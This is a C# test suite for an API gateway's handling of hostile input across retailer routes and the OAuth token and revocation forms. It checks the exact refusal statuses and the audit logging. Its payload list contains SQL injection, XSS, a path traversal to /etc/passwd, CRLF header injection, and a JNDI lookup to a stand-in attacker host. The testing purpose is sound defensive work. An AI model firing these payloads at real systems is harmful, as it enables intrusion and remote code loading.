using System.Net;
using System.Text.Json;
using Renkei.Gateway.Audit;
using Renkei.Gateway.Ips;
using Renkei.Gateway.Tests.Support;
using Renkei.Hosting.Audit;

namespace Renkei.Gateway.Tests.Ips;

/// <summary>
/// Injection and traversal strings in every parameter a retailer system can send through the gateway: each query
/// parameter and route value of every retailer route (supply point intervals, the bulk data routes, the switching
/// routes, webhooks) and each field of the token and revocation forms. Each answer is exact (status, problem
/// document, and who refused it: the gateway's request filter, its access decision, or the internal node's own
/// validation), a string is never taken for anything but data (a search with SQL in it finds nothing), and each
/// attempt is one audit line with that status.
/// </summary>
[Collection(InternalZoneCollection.Name)]
public sealed class HostileParameterTests(InternalZone zone)
{
    /// <summary>The strings tried in every parameter: SQL, script, traversal, JNDI, double encoding, CR LF, over-long.</summary>
    public static readonly string[] Hostile =
    [
        "' OR '1'='1",
        "1;DROP TABLE supply_points--",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "${jndi:ldap://attacker.test/a}",
        "%2e%2e%2f",
        "\r\nX-Injected: 1",
        new string('9', 600),
    ];

    private const string PathRefused = "path traversal or encoded path separators";
    private const string QueryRefused = "double-encoded query";
    private const string Point = Market.R1Only;

    private static GatewayLimits NoLockout => new() { FailuresBeforeLockout = 1_000, FailuresPerAddressBeforeLockout = 1_000 };

    /// <summary>Every GET parameter of the retailer routes, with the answer a hostile value in it gets.</summary>
    public static TheoryData<string, int> Parameters => new()
    {
        // The per-point route: the gateway's access decision validates all three.
        { "api/v1/supply-points/{v}/intervals?date=2026-11-09", 400 },
        { $"api/v1/supply-points/{Point}/intervals?date={{v}}", 400 },
        { $"api/v1/supply-points/{Point}/intervals?date=2026-11-09&direction={{v}}", 400 },

        // The bulk data routes: the metering node validates each value (the gateway admits the names only).
        { "api/v1/intervals?date={v}", 400 },
        { "api/v1/intervals?date=2026-11-09&slot={v}", 400 },
        { "api/v1/intervals?date=2026-11-09&voltage={v}", 400 },
        { "api/v1/intervals?date=2026-11-09&asOf={v}", 400 },
        { "api/v1/fixed-usage?month={v}", 400 },
        { "api/v1/fixed-usage?month=2026-10&voltage={v}", 400 },
        { "api/v1/files?date={v}", 400 },
        { "api/v1/files/{v}", 404 },
        { "api/v1/feed?cursor={v}", 400 },
        { "api/v1/feed?cursor=0&limit={v}", 400 },
        { "api/v1/deadlines?date={v}", 400 },

        // The switching routes: numbers not the caller's are the same 404 as unknown ones; numeric parameters 400.
        { "api/v1/switching/applications?limit={v}", 400 },
        { "api/v1/switching/applications/{v}", 404 },
        { "api/v1/switching/applications/{v}/history", 404 },
        { "api/v1/switching/applications/{v}/usage", 404 },
        { "api/v1/switching/cancellation-relays?all={v}", 400 },
        { "api/v1/switching/cancellation-relays/{v}", 404 },
        { "api/v1/switching/changes?after={v}", 400 },
        { "api/v1/switching/changes?limit={v}", 400 },
        { "api/v1/switching/notifications?limit={v}", 400 },
        { "api/v1/switching/supply-points/{v}/facility", 400 },

        // Free text: searched for as text, so SQL in it matches nothing (200, no hits).
        { "api/v1/switching/supply-points/search?address={v}&holderName=Test", 200 },
        { "api/v1/switching/supply-points/search?address=test&holderName={v}", 200 },

        // The gateway's own webhook routes.
        { "api/v1/webhooks/{v}/deliveries", 404 },
    };

    [Theory]
    [MemberData(nameof(Parameters))]
    public async Task EveryParameter_HostileStrings_AnsweredExactlyAndAudited(string template, int expected)
    {
        var gateway = zone.Shared;
        var client = gateway.Client();
        var token = await gateway.TokenAsync(TestGateway.R1Id, TestGateway.R1Secret, client);
        var inPath = template.IndexOf("{v}", StringComparison.Ordinal) < template.IndexOf('?', StringComparison.Ordinal) || !template.Contains('?', StringComparison.Ordinal);
        var prefix = "/" + template[..template.IndexOf("{v}", StringComparison.Ordinal)];

        // The token in use once, so that the gateway has validated it: even its request filter's refusals, which
        // come before authentication, then name the client.
        using (var warm = await TestGateway.GetIntervalsAsync(client, token, Point, "2026-11-09"))
        {
            Assert.Equal(HttpStatusCode.OK, warm.StatusCode);
        }

        if (expected == 200)
        {
            // The search finds R1's point with well-formed terms, so the empty answers below mean the hostile term
            // was searched for as text, not that there was nothing to find.
            var control = template.Replace("{v}", template.Contains("address={v}", StringComparison.Ordinal) ? "test" : "Test", StringComparison.Ordinal);
            using var found = await TestGateway.GetAsync(client, token, control);
            Assert.Equal(HttpStatusCode.OK, found.StatusCode);
            using var hits = JsonDocument.Parse(await found.Content.ReadAsStringAsync());
            Assert.Equal([Point], hits.RootElement.EnumerateArray().Select(h => h.GetProperty("supplyPointId").GetString()));
        }

        foreach (var hostile in Hostile)
        {
            var escaped = Uri.EscapeDataString(hostile);
            var target = template.Replace("{v}", escaped, StringComparison.Ordinal);

            // What must refuse it: the gateway's request filter for anything that is a separator, a dot segment or a
            // percent sign once decoded; otherwise the parameter's own validation (or, for free text, nobody).
            var (status, reason) = inPath && (escaped.Contains("%2F", StringComparison.Ordinal) || escaped.Contains("%25", StringComparison.Ordinal) || escaped.Contains("..", StringComparison.Ordinal))
                ? (400, PathRefused)
                : !inPath && escaped.Contains("%25", StringComparison.Ordinal) ? (400, QueryRefused)
                : (expected, (string?)null);
            var before = (await gateway.Audit.QueryAsync(new AuditQuery { Limit = 100_000 })).Count;

            using var response = await TestGateway.GetAsync(client, token, target);

            var body = await response.Content.ReadAsStringAsync();
            var what = $"{target[..Math.Min(target.Length, 120)]} -> {(int)response.StatusCode} {body[..Math.Min(body.Length, 200)]}";
            Assert.True(status == (int)response.StatusCode, what);
            if (status == 200)
            {
                using var hits = JsonDocument.Parse(body);
                Assert.True(hits.RootElement.GetArrayLength() == 0, what);
            }
            else if (body.Length > 0)
            {
                Assert.True(response.Content.Headers.ContentType?.MediaType == "application/problem+json", what);
                using var problem = JsonDocument.Parse(body);
                Assert.Equal(status, problem.RootElement.GetProperty("status").GetInt32());
            }

            var all = await gateway.Audit.QueryAsync(new AuditQuery { Limit = 100_000 });
            Assert.True(before + 1 == all.Count, what);
            var entry = all[^1];
            Assert.True(entry.Path.StartsWith(prefix, StringComparison.Ordinal), what + " audit path " + entry.Path);
            Assert.Equal(("GET", status, status < 400 ? AuditEntry.Allowed : AuditEntry.Denied), (entry.Method, entry.Status, entry.Outcome));

            // Every refusal names the client, the request filter's too (its token already validated, see above).
            Assert.Equal((TestGateway.R1Id, Market.R1, "127.0.0.1"), (entry.ClientId, entry.Retailer, entry.SourceAddress));
            if (reason is not null)
            {
                Assert.Equal(reason, entry.Reason);
            }
            else if (status >= 400)
            {
                Assert.NotNull(entry.Reason);
            }
        }
    }

    /// <summary>
    /// A query parameter a switching endpoint does not define (or one given twice), next to the ones it does: the
    /// method, the path, and the parameter the gateway must name.
    /// </summary>
    public static TheoryData<string, string, string> SwitchingUnknownParameters => new()
    {
        { "GET", "api/v1/switching/applications?limit=10&evil=1", "evil" },
        { "GET", "api/v1/switching/applications/A000000000001?limit=1", "limit" },
        { "GET", "api/v1/switching/applications/A000000000001/history?x=1", "x" },
        { "GET", "api/v1/switching/applications/A000000000001/usage?date=2026-11-09", "date" },
        { "POST", "api/v1/switching/applications/switch-in?dryRun=true&confirm=1", "confirm" },
        { "POST", "api/v1/switching/applications/usage-information?dryRun=true", "dryRun" },
        { "POST", "api/v1/switching/applications/A000000000001/withdraw?reason=x", "reason" },
        { "GET", "api/v1/switching/cancellation-relays?all=true&all=false", "all" },
        { "POST", "api/v1/switching/cancellation-relays?all=true", "all" },
        { "POST", "api/v1/switching/cancellation-relays/C000000000001/decision?dryRun=true", "dryRun" },
        { "GET", "api/v1/switching/changes?after=0&cursor=1", "cursor" },
        { "GET", "api/v1/switching/notifications?after=0", "after" },
        { "POST", "api/v1/switching/notifications/ack?limit=1", "limit" },
        { "GET", "api/v1/switching/bulk/applications?format=csv", "format" },
        { "POST", "api/v1/switching/bulk/switch-ins?dryRun=true", "dryRun" },
        { "GET", "api/v1/switching/supply-points/search?address=test&holdername=Test", "holdername" },
        { "GET", $"api/v1/switching/supply-points/{Point}/facility?date=2026-11-09", "date" },
        { "POST", $"api/v1/switching/supply-points/{Point}/consent-passwords?dryRun=true", "dryRun" },
    };

    /// <summary>
    /// The switching routes admit only each endpoint's own query parameters, once each: any other is answered 400 by
    /// the gateway itself (its problem document names the parameter; the switching node, which ignores unknown
    /// parameters, would have answered otherwise) and audited with the client and the reason.
    /// </summary>
    [Theory]
    [MemberData(nameof(SwitchingUnknownParameters))]
    public async Task SwitchingRoutes_UnknownOrRepeatedQueryParameter_Is400NamingItAndAudited(string method, string target, string parameter)
    {
        var gateway = zone.Shared;
        var client = gateway.Client();
        var token = await gateway.TokenAsync(TestGateway.R1Id, TestGateway.R1Secret, client);
        using var request = new HttpRequestMessage(new HttpMethod(method), new Uri(target, UriKind.Relative));
        request.Headers.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", token);
        if (method == "POST")
        {
            request.Headers.Add("Idempotency-Key", "unknown-parameter-" + Guid.NewGuid().ToString("N"));
            request.Content = new StringContent("{}", System.Text.Encoding.UTF8, "application/json");
        }

        var before = (await gateway.Audit.QueryAsync(new AuditQuery { Limit = 100_000 })).Count;

        using var response = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        Assert.Equal(("Invalid query", 400, parameter), (problem.RootElement.GetProperty("title").GetString(), problem.RootElement.GetProperty("status").GetInt32(), problem.RootElement.GetProperty("field").GetString()));
        var all = await gateway.Audit.QueryAsync(new AuditQuery { Limit = 100_000 });
        Assert.Equal(before + 1, all.Count);
        var entry = all[^1];
        Assert.Equal(
            (method, "/" + target, 400, AuditEntry.Denied, "unexpected query parameter", TestGateway.R1Id, Market.R1),
            (entry.Method, entry.Path, entry.Status, entry.Outcome, entry.Reason, entry.ClientId, entry.Retailer));
    }

    /// <summary>The parameters each switching endpoint does define still reach the node (its answers, not the gateway's 400).</summary>
    [Theory]
    [InlineData("api/v1/switching/applications?limit=10")]
    [InlineData("api/v1/switching/cancellation-relays?all=true")]
    [InlineData("api/v1/switching/changes?after=0&limit=5")]
    [InlineData("api/v1/switching/notifications?limit=5")]
    [InlineData("api/v1/switching/supply-points/search?address=test&holderName=Test")]
    public async Task SwitchingRoutes_TheirOwnQueryParameters_AreForwarded(string target)
    {
        var gateway = zone.Shared;
        var client = gateway.Client();
        var token = await gateway.TokenAsync(TestGateway.R1Id, TestGateway.R1Secret, client);

        using var response = await TestGateway.GetAsync(client, token, target);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    [Theory]
    [InlineData("grant_type", 400, "unsupported_grant_type")]
    [InlineData("client_id", 401, "invalid_client")]
    [InlineData("client_secret", 401, "invalid_client")]
    [InlineData("scope", 400, "invalid_scope")]
    public async Task TokenForm_HostileStringInEachField_IsRefusedWithItsOAuthErrorAndAudited(string field, int expected, string error)
    {
        // A gateway of its own, lockout out of the way: every hostile form here is a failed authentication.
        await using var gateway = await TestGateway.StartAsync(zone, limits: NoLockout);
        var client = gateway.Client();

        foreach (var hostile in Hostile)
        {
            var form = new Dictionary<string, string>
            {
                ["grant_type"] = "client_credentials",
                ["client_id"] = TestGateway.R2Id,
                ["client_secret"] = TestGateway.R2Secret,
            };
            form[field] = hostile;
            var before = (await gateway.Audit.QueryAsync(new AuditQuery { Limit = 100_000 })).Count;

            using var response = await client.PostAsync(new Uri("connect/token", UriKind.Relative), new FormUrlEncodedContent(form));

            var body = await response.Content.ReadAsStringAsync();
            var what = $"{field}={hostile[..Math.Min(hostile.Length, 40)]} -> {(int)response.StatusCode} {body}";
            Assert.True(expected == (int)response.StatusCode, what);
            using var json = JsonDocument.Parse(body);
            Assert.True(error == json.RootElement.GetProperty("error").GetString(), what);
            Assert.False(json.RootElement.TryGetProperty("access_token", out _), what);
            var all = await gateway.Audit.QueryAsync(new AuditQuery { Limit = 100_000 });
            Assert.True(before + 1 == all.Count, what);
            Assert.Equal(("POST", "/connect/token", expected, AuditEntry.Denied), (all[^1].Method, all[^1].Path, all[^1].Status, all[^1].Outcome));
        }
    }

    [Theory]
    [InlineData("token")]
    [InlineData("token_type_hint")]
    public async Task RevocationForm_HostileStringInEachField_Answers200RevokesNothingAndIsAudited(string field)
    {
        // RFC 7009: an invalid token (or an unknown hint) is answered 200 and changes nothing.
        await using var gateway = await TestGateway.StartAsync(zone, limits: NoLockout);
        var client = gateway.Client();
        var token = await gateway.TokenAsync(TestGateway.R1Id, TestGateway.R1Secret, client);

        foreach (var hostile in Hostile)
        {
            var form = new Dictionary<string, string>
            {
                ["client_id"] = TestGateway.R1Id,
                ["client_secret"] = TestGateway.R1Secret,
                ["token"] = field == "token" ? hostile : token,
                ["token_type_hint"] = field == "token_type_hint" ? hostile : "access_token",
            };
            var before = (await gateway.Audit.QueryAsync(new AuditQuery { Limit = 100_000 })).Count;

            using var response = await client.PostAsync(new Uri("connect/revoke", UriKind.Relative), new FormUrlEncodedContent(form));

            var what = $"{field}={hostile[..Math.Min(hostile.Length, 40)]} -> {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}";
            var all = await gateway.Audit.QueryAsync(new AuditQuery { Limit = 100_000 });
            Assert.True(before + 1 == all.Count, what);
            Assert.Equal(("POST", "/connect/revoke", (int)response.StatusCode), (all[^1].Method, all[^1].Path, all[^1].Status));
            Assert.True(response.StatusCode == HttpStatusCode.OK, what);
        }

        if (field == "token")
        {
            using var still = await TestGateway.GetIntervalsAsync(client, token, Point, "2026-11-09");
            Assert.Equal(HttpStatusCode.OK, still.StatusCode);
        }
    }
}
